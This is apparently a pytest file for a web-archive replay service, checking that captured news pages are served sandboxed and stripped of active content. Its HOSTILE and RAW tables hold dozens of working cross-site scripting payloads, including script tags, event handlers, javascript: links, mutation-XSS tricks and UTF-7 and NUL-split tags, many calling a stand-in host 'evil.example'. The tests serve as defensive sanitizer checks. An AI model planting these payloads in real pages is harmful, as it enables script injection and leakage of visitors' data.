"""Replay: what an outlet sent is drawn as it looked, and nothing of it acts, asks or leads anywhere."""

import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import httpx

from scrapers.archive.archive import Archive
from scrapers.desk.replay import ATTRIBUTES, DRAWN
from tests.desk.fill import filled, post
from tests.support.shelf import Served, page, shelve

EVIL = "https://evil.example"
HOSTILE = {
    "script": f"<script src={EVIL}/a.js></script><script>fetch('{EVIL}')</script><p>seen</p>",
    "handler": f"<p onclick=\"fetch('{EVIL}')\" onmouseover=alert(1)>seen</p><body onload=alert(1)>",
    "javascript": "<a href=javascript:alert(1)>seen</a><a href='java\nscript:alert(1)'>x</a>",
    "link": f"<a href={EVIL} ping={EVIL}/ping target=_top download>seen</a>",
    "style": f"<style>@import '{EVIL}/a.css'; p {{ background: u\\72l({EVIL}/b) }}</style><p>seen</p>",
    "style attribute": f"<p style=\"background:url('{EVIL}/c')\">seen</p>",
    "style end": "<style>p{}</style\t><script>alert(1)</script><p>seen</p>",
    "style in svg": "<svg><style><img src=x onerror=alert(1)></style></svg><p>seen</p>",
    "sheet": f"<link rel=stylesheet href={EVIL}/d.css><link rel=dns-prefetch href={EVIL}><p>seen</p>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'><p>seen</p>",
    "policy": '<meta http-equiv=content-security-policy content="default-src *"><p>seen</p>',
    "base": f"<base href={EVIL}/ target=_top><a href=/x>seen</a>",
    "svg": f"<svg onload=alert(1)><image href={EVIL}/e /><a xlink:href='javascript:alert(1)'>x</a></svg><p>seen</p>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math><p>seen</p>",
    "form": f"<form action={EVIL}><button formaction={EVIL}>seen</button><input type=image src={EVIL}/f></form>",
    "object": f"<object data={EVIL}/g></object><embed src={EVIL}/h><applet code=x></applet><p>seen</p>",
    "void": f"<embed src={EVIL}><param><source><track><keygen><bgsound src={EVIL}><basefont><area><p>seen",
    "fallback": f"<object data={EVIL}><p>seen</p></object>",
    "frame": f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe><p>seen</p>",
    "images": f"<img src={EVIL}/i srcset='{EVIL}/j 2x' alt='A \"picture\"'><picture><source srcset={EVIL}/k></picture>seen",
    "media": f"<video src={EVIL}/l poster={EVIL}/m autoplay></video><audio src={EVIL}/n></audio><p>seen</p>",
    "background": f"<table background={EVIL}/o><tr><td background={EVIL}/p>seen</table>",
    "template": "<template><script>alert(1)</script></template><p>seen</p>",
    "shadow": f"<div><template shadowrootmode=open><img src={EVIL}/q><script>alert(1)</script></template></div><p>seen</p>",
    "noscript": f'<noscript><p title="</noscript><img src={EVIL}/r onerror=alert(1)>">seen</noscript>',
    "comment": "<!--><img src=x onerror=alert(1)>--><p>seen</p><!--[if IE]><script>alert(1)</script><![endif]-->",
    "attribute": "<p title='\"><script>alert(1)</script>' class='\"onclick=alert(1)'>seen</p>",
    "raw text": "<xmp><script>alert(1)</script></xmp><textarea></textarea><img src=x onerror=alert(1)></textarea><p>seen",
    "plaintext": "<p>seen</p><plaintext><script>alert(1)</script>",
    "unclosed": "<p>seen<div><script>alert(1)",
    "deep": "<div>" * 180 + "seen",
    "tags": "<x-evil onclick=alert(1)>seen</x-evil><a:b:c>x</a:b:c><p/onclick=alert(1)>",
    "controls": "<p>seen\x01\x1b[31m &#0; &#x1b; \ufffe</p>",
    "bidi": "<p dir=rtl>seen \u202egpj.exe</p>",
    "import map": f'<script type=importmap>{{"imports":{{"a":"{EVIL}"}}}}</script><p>seen</p>',
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}"]}}]}}</script><p>seen</p>',
}
RAW = {
    "broken utf-8": b"<p>seen \xff\xfe\xc3( \xed\xa0\x80</p>",
    "utf-7": b"<meta charset=utf-7><p>seen +ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>",
    "utf-16": "\ufeff<p>seen</p><script>alert(1)</script>".encode("utf-16-le"),
    "nul": b"<p>seen</p><scr\0ipt>alert(1)</scr\0ipt><\0script>alert(1)</script>",
}
BATCH = "20261122T1200Z"


class Drawn(HTMLParser):
    """What stands in a replayed page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs} - ({"charset"} if tag == "meta" else set())


def replayed(desk: httpx.Client) -> dict[str, httpx.Response]:
    """The captures of the batch by their address, as the frame around each leads to it."""
    found = {}
    for address in re.findall(r'href="(/replays/[^"]+)"', desk.get(f"/batches/gazette/{BATCH}").text):
        outer = desk.get(address)
        assert outer.status_code == 200
        (frame,) = re.findall(r"<iframe [^>]+>", outer.text)
        assert 'sandbox=""' in frame
        (source,) = re.findall(r'src="([^"]+)"', frame)
        assert source.startswith("/replays/")
        (url,) = re.findall(r'<span class="exact">([^<]+)</span>, captured', outer.text)
        found[url] = desk.get(source)
    return found


def assert_inert(answer: httpx.Response, name: str) -> None:
    assert answer.status_code == 200, (name, answer.text[:500])
    policy = answer.headers["content-security-policy"]
    directives = dict(re.split(r"\s+|$", each.strip(), maxsplit=1) for each in policy.split(";"))
    assert directives["sandbox"] == ""
    assert directives["default-src"] == "'none'"
    assert not re.search(r"https?:|\*|data:|'self'", policy.replace("frame-ancestors 'self'", ""))
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    found = Drawn()
    found.feed(answer.content.decode("utf-8"))
    assert found.tags <= DRAWN | {"html", "head", "meta", "title", "style", "body"}, name
    assert found.attributes <= ATTRIBUTES, name
    assert "seen" in answer.text, name
    assert "<script" not in answer.text.lower(), name
    assert not re.search(r"[\0-\x08\x0b\x0c\x0e-\x1f\x7f]", answer.text)


def test_hostile_pages_are_inert(desk: httpx.Client, archive: Archive) -> None:
    written = {
        name: f"<!DOCTYPE html><html><head><title>t</title></head><body>{body}</body></html>".encode()
        for name, body in HOSTILE.items()
    }
    pages = [
        Served(url=post(number), html="", payload=body)
        for number, body in enumerate((written | RAW).values(), start=1)
    ]
    shelve(archive, BATCH, pages)
    answers = replayed(desk)
    assert len(answers) == len(pages)
    for number, name in enumerate(written | RAW, start=1):
        assert_inert(answers[post(number)], name)


def test_an_article_is_drawn_with_its_words_styles_and_captions(desk: httpx.Client, archive: Archive) -> None:
    html = (
        "<!DOCTYPE html><html lang=vi><head><style>h1{color:red}</style></head><body class=story>"
        "<h1>Đảng &amp; đường</h1><p style='color:blue'>One <b>two</b> three</p><img src=/x.jpg alt='A bridge'>"
        "<table><tr><td colspan=2>cell</table></body></html>"
    )
    shelve(archive, BATCH, [Served(url="https://gazette.example/post1", html=html)])
    (shown,) = (answer.text for answer in replayed(desk).values())
    assert '<html lang="vi">' in shown
    assert "<style>h1{color:red}</style>" in shown
    assert "<h1>Đảng &amp; đường</h1>" in shown
    assert '<p style="color:blue">One <b>two</b> three</p><span>[A bridge]</span>' in shown
    assert '<td colspan="2">cell</td>' in shown
    assert '<body class="story">' in shown


def test_one_range_of_the_part_is_asked_for(desk: httpx.Client, archive: Archive) -> None:
    filled(archive)
    shown = desk.get(f"/batches/gazette/{BATCH}").text
    address = re.findall(r'href="(/replays/[^"]+)"', shown)[2]
    asked: list[str] = []

    def note(request: Any, **_: object) -> None:
        if urlsplit(request.url).path.endswith(".warc.gz"):
            asked.append(f"{request.method} {request.headers.get('Range', b'')}")

    archive.store.client.meta.events.register("before-send.s3", note)
    assert desk.get(f"{address}/page").status_code == 200
    ranges = [each for each in asked if not each.startswith("HEAD")]
    assert len(ranges) == 1
    assert "bytes=" in ranges[0]


def test_what_is_no_page_of_the_web_is_not_drawn(desk: httpx.Client, archive: Archive) -> None:
    kinds = ("application/pdf", "image/png", "application/json", "text/plain", "application/rss+xml")
    pages = [
        Served(url=post(number), html="<p>x</p>", headers={"Content-Type": kind})
        for number, kind in enumerate(kinds, start=1)
    ]
    shelve(archive, BATCH, pages)
    answers = replayed(desk)
    for number, kind in enumerate(kinds, start=1):
        assert answers[post(number)].status_code == 404
        assert kind in answers[post(number)].text


def test_a_page_that_cannot_be_drawn_is_said_so(desk: httpx.Client, archive: Archive) -> None:
    bodies = (
        b"",
        b"   ",
        b"<p " + b"a=1 " * 2_000 + b">",
        b"<p>" * 20_000,
        b"<div>" * 400,
        b"<!DOCTYPE html>",
        b"\0",
    )
    pages = [Served(url=post(number), html="", payload=body) for number, body in enumerate(bodies, start=1)]
    shelve(archive, BATCH, pages)
    for answer in replayed(desk).values():
        assert answer.status_code in {200, 404}
        assert answer.text.startswith("<!DOCTYPE html>")


def test_a_place_without_a_capture_has_none(desk: httpx.Client, archive: Archive) -> None:
    shelve(archive, BATCH, [page(1)])
    for place in ("x/0", "abcdef/7", "../0", "a/-1", f"a/{2**64}"):
        for suffix in ("", "/page"):
            assert desk.get(f"/replays/gazette/{BATCH}/{place}{suffix}").status_code in {400, 404}
